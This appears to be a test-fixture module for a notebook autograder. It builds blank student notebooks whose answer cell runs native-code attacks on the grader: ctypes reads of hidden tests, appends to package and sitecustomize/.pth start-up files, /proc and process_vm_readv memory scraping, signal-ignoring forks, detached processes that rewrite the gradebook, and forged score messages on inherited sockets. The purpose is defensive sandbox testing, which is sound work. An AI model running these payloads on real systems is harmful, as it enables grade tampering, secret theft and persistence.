"""Native-code attacks on the grader, as toy-assignment submissions (same format as
``toy_submissions.CASES``: answers, extra cell, expected status, largest allowed total).

Audit hooks cannot see native calls, so each attack goes through ``ctypes`` (libc's ``open``,
``read``, ``write``, ``process_vm_readv``) or the OS directly. Each notebook leaves its answers
blank and **answers q1 correctly only if its attack succeeded**, so "0 points" means "the attack
failed", not merely "the notebook was wrong". Attacks that write leave ``MARKER`` behind, so a
test can check that the installation is unchanged without hashing files other developers edit.

The attack replaces the student's q1 answer cell (``q1_mean = ...`` followed by the attack), so
that its answer counts whether the tests run at ``grader.check("q1")`` or at the end.
Build-time substitutions: ``{AUTOGRADER}`` (the autograder folder), ``{OUT}`` (the gradebook
folder), ``{MARKER}``.
"""

import copy
import json
from pathlib import Path

STUDENT = Path(__file__).parents[1] / "fixtures" / "toy-assignment" / "dist" / "student" / "toy.ipynb"

MARKER = "TEACHKIT-NATIVE-ATTACK-7f3a"
"""Written by every attack that tries to change files; must appear nowhere afterwards."""

_LIBC = r'''
import ctypes, ctypes.util, os
libc = ctypes.CDLL(None, use_errno=True)
libc.open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_int]
libc.read.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
libc.write.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t]
libc.read.restype = libc.write.restype = ctypes.c_ssize_t
O_RDONLY, O_WRONLY, O_CREAT, O_APPEND, O_NONBLOCK = 0, 1, 0o100, 0o2000, 0o4000

def native_read(path, limit=1 << 20):
    fd = libc.open(os.fsencode(path), O_RDONLY | O_NONBLOCK, 0)  # a pipe must not hang the attack
    if fd < 0:
        return None
    buf = ctypes.create_string_buffer(limit)
    n = libc.read(fd, buf, limit)
    libc.close(fd)
    return buf.raw[:max(n, 0)]

def native_append(path, text, create=False):
    fd = libc.open(os.fsencode(path), O_WRONLY | O_APPEND | (O_CREAT if create else 0), 0o644)
    if fd < 0:
        return False
    data = text.encode()
    ok = libc.write(fd, data, len(data)) == len(data)
    libc.close(fd)
    return ok

won = False
'''

_WIN = r'''
if won:
    q1_mean = data.mean()  # only an attack that worked earns this
print("attack won" if won else "attack failed")
'''

CTYPES_READ_TESTS = _LIBC + r'''
for path in ("{AUTOGRADER}/tests/q1.py", "{AUTOGRADER}/autograder.zip", "{AUTOGRADER}/otter_config.json"):
    got = native_read(path)
    if got and (b"test_case" in got or b"assignment_name" in got or got[:2] == b"PK"):
        won = True
''' + _WIN

CTYPES_WRITE_INSTALL = _LIBC + r'''
import sys, sysconfig, teachkit, otter.test_files
pkg = os.path.dirname(teachkit.__file__)
targets = [
    (os.path.join(pkg, "checks", "__init__.py"), False),           # imported by every hidden test
    (os.path.join(pkg, "_attack_probe_{MARKER}.py"), True),         # a new module in the package
    (os.path.join(os.path.dirname(otter.test_files.__file__), "exception_test.py"), False),
    (os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py"), True),   # runs at start-up
    (os.path.join(sysconfig.get_paths()["purelib"], "zz_attack_{MARKER}.pth"), True),
    (os.path.join(sys.prefix, "pyvenv.cfg"), False),
]
for path, create in targets:
    if native_append(path, "\n# {MARKER}\n", create=create):
        won = True
''' + _WIN

PROC_OF_THE_PARENT = _LIBC + r'''
secret = b"test_q1_value"
ppid = os.getppid()
seen = []
for pid in sorted({ppid, 1, *[int(p) for p in os.listdir("/proc") if p.isdigit()]}):
    cmd = native_read(f"/proc/{pid}/cmdline") or b""
    env = native_read(f"/proc/{pid}/environ") or b""
    seen.append(cmd)
    for blob in (cmd, env):
        for part in blob.split(b"\0"):
            part = part.decode(errors="replace")
            if "autograder" in part or "tests" in part:
                for cand in (part, os.path.join(part, "tests", "q1.py")):
                    got = native_read(cand) if os.path.isabs(cand) else None
                    if got and secret in got:
                        won = True
    # the root and working folder of another process lead to its file system
    for link in (f"/proc/{pid}/root{AUTOGRADER}/tests/q1.py", f"/proc/{pid}/cwd/tests/q1.py"):
        got = native_read(link)
        if got and secret in got:
            won = True
''' + _WIN

MEMORY_OF_THE_PARENT = _LIBC + r'''
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.POINTER(iovec), ctypes.c_ulong,
                                  ctypes.POINTER(iovec), ctypes.c_ulong, ctypes.c_ulong]
libc.process_vm_readv.restype = ctypes.c_ssize_t
secret, budget = b"test_q1_value", 400 << 20
for pid in sorted({os.getppid(), 1, *[int(p) for p in os.listdir("/proc") if p.isdigit()]} - {os.getpid()}):
    maps = native_read(f"/proc/{pid}/maps", 4 << 20) or b""
    for line in maps.decode(errors="replace").splitlines():
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        if "r" not in line.split()[1] or hi - lo > 64 << 20 or budget <= 0:
            continue
        budget -= hi - lo
        buf = ctypes.create_string_buffer(hi - lo)
        local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), hi - lo), iovec(lo, hi - lo)
        n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if n > 0 and secret in buf.raw[:n]:
            won = True
            break
    if won:
        break
''' + _WIN

IGNORE_SIGNALS = r'''
import os, signal, time
for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM, signal.SIGUSR1, signal.SIGQUIT):
    signal.signal(s, signal.SIG_IGN)
if os.fork() == 0:          # a child that ignores them too
    while True:
        time.sleep(0.1)
while True:                 # and never finish: the grader must kill, not ask
    time.sleep(0.1)
'''

OUTLIVE = r'''
import os, sys, time
marker = "tk-outlive-{MARKER}"
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            # a grandchild in its own session, with an empty environment (no grading token),
            # that waits for the grader to move on and then tries to rewrite results
            try:
                os.execve("/bin/sh", [marker, "-c",
                          "sleep 2; for f in {OUT}/gradebook.csv ../export/manifest.json; do "
                          "echo {MARKER} >> $f; done; sleep 600"], {})
            except OSError:
                os._exit(0)
        os._exit(0)
time.sleep(0.5)
'''

FD_GAMES = _LIBC + r'''
import stat, socket
secret = b"test_q1_value"
for fd in range(3, 1024):
    try:
        st = os.fstat(fd)
    except OSError:
        continue
    if stat.S_ISREG(st.st_mode) or stat.S_ISFIFO(st.st_mode):
        try:
            os.set_blocking(fd, False)
            os.lseek(fd, 0, 0)
        except OSError:
            pass
        try:
            if secret in os.read(fd, 1 << 20):
                won = True
        except OSError:
            pass
        try:
            os.write(fd, b"{MARKER}\n")
        except OSError:
            pass
    elif stat.S_ISSOCK(st.st_mode):
        try:   # garbage, a huge length prefix, and forged-looking JSON on any inherited socket
            os.write(fd, b"\xff\xff\xff\xff{MARKER}" + b'{"op": "finished", "score": 100}\n' * 10)
        except OSError:
            pass
# descriptors of other processes (the grader's open files) through /proc
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        got = native_read(f"/proc/{pid}/fd/{fd}")
        if got and secret in got:
            won = True
os.dup2(os.open("/dev/null", os.O_WRONLY), 1)   # and hide its own output
''' + _WIN

BLANK = {}

CASES = {
    # id: (answers, extra cell source, expected status, largest allowed total)
    "ctypes-read-tests": (BLANK, CTYPES_READ_TESTS, "ok", 0),
    "ctypes-write-install": (BLANK, CTYPES_WRITE_INSTALL, "ok", 0),
    "proc-of-the-parent": (BLANK, PROC_OF_THE_PARENT, "ok", 0),
    "memory-of-the-parent": (BLANK, MEMORY_OF_THE_PARENT, "ok", 0),
    "ignore-signals": (BLANK, IGNORE_SIGNALS, "timeout", 0),
    "outlive": (BLANK, OUTLIVE, "ok", 0),
    # garbage on its socket to the examiner breaks off the examination: status error
    "fd-games": (BLANK, FD_GAMES, "error", 0),
}


def build(attack: str, subs: dict[str, str]) -> dict:
    """The blank student notebook whose q1 answer cell runs ``attack`` (placeholders filled)."""
    nb = copy.deepcopy(json.loads(STUDENT.read_text()))
    for k, v in {**subs, "MARKER": MARKER}.items():
        attack = attack.replace("{" + k + "}", v)
    for cell in nb["cells"]:
        if cell["cell_type"] == "code" and "".join(cell["source"]).strip() == "q1_mean = ...":
            cell["source"] = "q1_mean = ...\n" + attack
            return nb
    raise ValueError("the toy student notebook has no `q1_mean = ...` cell")


def write_all(folder: Path, subs: dict[str, str]) -> dict[str, tuple[str, float]]:
    """Write every attack to ``folder/ID.ipynb``; return ``{id: (status, largest total)}``."""
    folder.mkdir(parents=True, exist_ok=True)
    expect = {}
    for sid, (_answers, attack, status, top) in CASES.items():
        (folder / f"{sid}.ipynb").write_text(json.dumps(build(attack, subs)))
        expect[sid] = (status, top)
    return expect


def installation_files() -> list[Path]:
    """Files an attack tries to change or plant: teachkit's and Otter's sources, site-packages'
    start-up hooks, the virtualenv's ``pyvenv.cfg``."""
    import sys
    import sysconfig

    import otter

    import teachkit

    site = Path(sysconfig.get_paths()["purelib"])
    files = [*Path(teachkit.__file__).parent.rglob("*.py"), *Path(otter.__file__).parent.rglob("*.py"),
             *site.glob("*.pth"), *site.glob("*customize.py"), Path(sys.prefix) / "pyvenv.cfg"]
    return sorted(f for f in files if f.is_file())


def marked_files(files) -> list[str]:
    """The files among ``files`` that contain :data:`MARKER` or are named after it."""
    return [str(f) for f in files if MARKER in f.name or MARKER.encode() in f.read_bytes()]
